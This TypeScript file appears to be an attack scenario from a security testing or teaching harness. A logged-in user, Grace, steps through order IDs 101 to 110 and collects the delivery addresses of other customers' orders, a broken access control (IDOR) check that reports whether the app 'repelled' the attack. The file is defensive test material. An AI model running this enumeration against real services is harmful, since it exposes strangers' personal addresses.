import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';

const first = 101;
const last = 110;

/** Logged in as Grace, asks for one order number after the other. Numbers 102 and 105 are hers. */
const attack: Attack = async function* (send) {
  const stolen: string[] = [];
  let requests = 0;
  const progress = (step: string): AttackProgress => {
    const text = stolen.join(' · ');
    return { requests, stolen: text, length: text.length, step };
  };

  for (let id = first; id <= last; id += 1) {
    const headers = { authorization: 'Bearer grace-is-here' };
    const { status, body } = await send({ method: 'GET', path: `/api/orders/${id}`, headers });
    requests += 1;
    const address = /"address":"([^"]+)"/.exec(body)?.[1];
    const isHers = id === 102 || id === 105;
    if (status === 200 && address !== undefined && !isHers) stolen.push(address);
    yield progress(`Asked for order ${id}`);
  }
  return stolen.length > 0
    ? { ...progress(`Grace has read where ${stolen.length} orders of others go`), outcome: 'succeeded' }
    : { ...progress('Every order but her own looks as if it were not there'), outcome: 'repelled' };
};

export default attack;
